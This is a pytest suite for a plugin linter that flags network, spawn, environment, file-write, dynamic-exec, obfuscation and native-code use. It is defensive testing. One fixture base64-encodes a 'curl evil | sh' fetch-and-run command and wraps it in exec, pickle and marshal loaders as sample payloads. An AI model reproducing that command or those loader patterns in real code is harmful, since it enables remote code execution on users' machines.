"""The static checks of ``corral._pdk.lint``: each rule fires and is silenced by the right grant."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest

from corral._model.manifest import load_manifest
from corral._pdk.lint import RULES, Issue, check_signatures, lint_plugin


def plugin(tmp_path: Path, code: str, permissions: str = "", exports: str = "") -> Path:
    """A plugin directory with ``pkg/mod.py`` holding ``code``."""
    root = tmp_path / "p"
    (root / "pkg").mkdir(parents=True, exist_ok=True)
    (root / "pkg" / "__init__.py").write_text("")
    (root / "pkg" / "mod.py").write_text(code)
    exports = exports or 'go = "pkg.mod:go"'
    (root / "corral.toml").write_text(
        '[plugin]\nid = "acme.lint"\nname = "Lint"\nversion = "1.0.0"\n'
        f"[permissions]\n{permissions}\n[exports]\n{exports}\n"
    )
    return root


def lint(tmp_path: Path, code: str, permissions: str = "") -> list[Issue]:
    root = plugin(tmp_path, code, permissions)
    return lint_plugin(root, load_manifest(root))


def rules(issues: list[Issue]) -> list[str]:
    return [i.rule for i in issues]


# rule -> (code that breaks it, the grant that makes it fine, the permission named)
CASES = {
    "socket": ("CORRAL-S001", "import socket\n", 'net-connect = ["api.example.com:443"]',
               "net-connect"),
    "http.client": ("CORRAL-S001", "import http.client as hc\n",
                    'net-connect = ["api.example.com:443"]', "net-connect"),
    "urlopen": ("CORRAL-S001", "from urllib.request import urlopen\n",
                'net-connect = ["api.example.com:443"]', "net-connect"),
    "requests": ("CORRAL-S001", "import requests\n", 'net-connect = ["a.test:80"]',
                 "net-connect"),
    "asyncio": ("CORRAL-S001", "import asyncio\nasync def f():\n    await "
                "asyncio.open_connection('a.test', 80)\n", 'net-connect = ["a.test:80"]',
                "net-connect"),
    "subprocess": ("CORRAL-S002", "import subprocess\n", 'spawn = ["git"]', "spawn"),
    "os.system": ("CORRAL-S002", "import os\nos.system('ls')\n", 'spawn = ["ls"]', "spawn"),
    "os.execv": ("CORRAL-S002", "from os import execv\nexecv('/bin/ls', ['ls'])\n",
                 'spawn = ["/bin/ls"]', "spawn"),
    "pty": ("CORRAL-S002", "import pty\n", 'spawn = ["bash"]', "spawn"),
    "environ": ("CORRAL-S009", "import os\nx = os.environ['HOME']\n", 'env = ["HOME"]',
                "env:HOME"),
    "getenv": ("CORRAL-S009", "import os\nx = os.getenv('TOKEN')\n", 'env = ["TOKEN"]',
               "env:TOKEN"),
    "write": ("CORRAL-S008", "open('/srv/out.txt', 'w')\n", 'fs-write = ["/srv"]',
              "fs-write:/srv/out.txt"),
    "path-write": ("CORRAL-S008", "from pathlib import Path\nPath('/srv/x').write_text('')\n",
                   'fs-write = ["/srv/x"]', "fs-write:/srv/x"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_rule_fires_without_grant_and_not_with_it(tmp_path: Path, case: str) -> None:
    rule, code, grant, permission = CASES[case]
    found = [i for i in lint(tmp_path, code) if i.rule == rule]
    assert found, f"{rule} did not fire on {code!r}"
    issue = found[0]
    assert issue.file == "pkg/mod.py"
    assert issue.line is not None
    assert issue.line >= 1
    assert issue.permission == permission
    assert issue.message.startswith(f"pkg/mod.py:{issue.line}: ")
    assert issue.to_dict()["level"] == RULES[rule].level
    assert rule not in rules(lint(tmp_path, code, grant))


def test_program_outside_spawn_grants_is_named(tmp_path: Path) -> None:
    code = "import subprocess\nsubprocess.run(['curl', 'x'])\nsubprocess.run(['git', 'log'])\n"
    issues = lint(tmp_path, code, 'spawn = ["git"]')
    assert [(i.rule, i.line, i.permission) for i in issues] == [("CORRAL-S002", 2, "spawn:curl")]


def test_reads_and_relative_writes_are_fine(tmp_path: Path) -> None:
    code = "open('/etc/hostname').read()\nopen('out.txt', 'w')\nopen('/etc/x', mode='r')\n"
    assert lint(tmp_path, code) == []


def test_dynamic_code_and_imports(tmp_path: Path) -> None:
    code = (
        "import importlib\n"
        "def go(input, ctx):\n"
        "    eval('1 + 1')\n"              # a literal: reviewable, fine
        "    exec(input)\n"                # S003
        "    compile(input, 'x', 'exec')\n"  # S003
        "    importlib.import_module(input)\n"  # S004
        "    __import__('json')\n"          # literal: fine
        "    importlib.import_module('socket')\n"  # literal: S001, as an import
    )
    found = [(i.rule, i.line) for i in lint(tmp_path, code)]
    assert found == [("CORRAL-S003", 4), ("CORRAL-S003", 5), ("CORRAL-S004", 6),
                     ("CORRAL-S001", 8)]


def test_obfuscated_payloads(tmp_path: Path) -> None:
    payload = base64.b64encode(b"import os; os.system('curl evil | sh')" * 3).decode()
    code = (
        "import base64, zlib, marshal, pickle\n"
        f"exec(base64.b64decode({payload!r}))\n"
        "eval(zlib.decompress(blob))\n"
        "marshal.loads(bytes.fromhex(h))\n"
        f"pickle.loads({payload!r}.encode())\n"
        "exec(open('x').read())\n"  # computed, but not decoded: S003 only
    )
    found = [(i.rule, i.line) for i in lint(tmp_path, code)]
    assert found == [("CORRAL-S005", 2), ("CORRAL-S005", 3), ("CORRAL-S005", 4),
                     ("CORRAL-S005", 5), ("CORRAL-S003", 6)]
    assert all(RULES[r].level == "error" for r, _ in found[:4])


def test_long_high_entropy_literal_but_not_docstrings_or_prose(tmp_path: Path) -> None:
    blob = base64.b64encode(os.urandom(300)).decode()
    prose = "word " * 100
    hexed = os.urandom(250).hex()
    code = f'"""{blob}"""\nX = {blob!r}\nY = {prose!r}\nZ = {"ab" * 200!r}\nH = {hexed!r}\n'
    found = [(i.rule, i.line) for i in lint(tmp_path, code)]
    assert found == [("CORRAL-S006", 2), ("CORRAL-S006", 5)]


def test_native_code(tmp_path: Path) -> None:
    found = lint(tmp_path, "import ctypes\nfrom cffi import FFI\n")
    assert [(i.rule, i.line) for i in found] == [("CORRAL-S007", 1), ("CORRAL-S007", 2)]


def test_aliases_are_followed(tmp_path: Path) -> None:
    code = "import os as o\no.system('x')\nfrom os import system as s\ns('y')\n"
    assert [(i.rule, i.line) for i in lint(tmp_path, code)] == [
        ("CORRAL-S002", 2), ("CORRAL-S002", 4)]


def test_syntax_error_is_reported_not_raised(tmp_path: Path) -> None:
    (issue,) = lint(tmp_path, "def broken(:\n")
    assert issue.rule == "CORRAL-E002"
    assert (issue.file, issue.line) == ("pkg/mod.py", 1)


def test_lint_never_imports_the_plugin(tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    lint(tmp_path, f"open({str(marker)!r}, 'w').write('x')\n")
    assert not marker.exists()


SIGNATURES = '''
def good(input, ctx): pass
async def agood(value, context, extra=1, *, flag=False): pass
def star(*args): pass
def one(input): pass
def three(a, b, c): pass
def kwonly(input, ctx, *, must): pass
class Klass: pass
CONSTANT = 3
lam = lambda input: input
'''


def test_export_signatures(tmp_path: Path) -> None:
    names = ["good", "agood", "star", "one", "three", "kwonly", "Klass", "CONSTANT", "lam"]
    exports = "\n".join(f'{n.lower()} = "pkg.mod:{n}"' for n in names)
    micro = ('[[micro]]\nid = "acme.lint.v"\ntype = "validator"\nhandler = "pkg.mod:one"\n')
    root = plugin(tmp_path, SIGNATURES, exports=exports + "\n" + micro)
    issues = check_signatures(root, load_manifest(root))
    got = {i.message.split("(")[0].split(": ", 1)[1].strip(): i for i in issues}
    assert sorted(got) == ["export 'constant'", "export 'klass'", "export 'kwonly'",
                           "export 'lam'", "export 'one'", "export 'three'",
                           "micro-plugin 'acme.lint.v'"]
    assert got["export 'one'"].line == 5
    assert got["export 'klass'"].message.endswith("is a class; exports are functions "
                                                  "f(input, ctx)")
    assert "must" in got["export 'kwonly'"].message
    assert "not callable" in got["export 'constant'"].message
    assert issues  # all() below must not pass on nothing
    assert all(i.rule == "CORRAL-E003" and i.file == "pkg/mod.py" for i in issues)
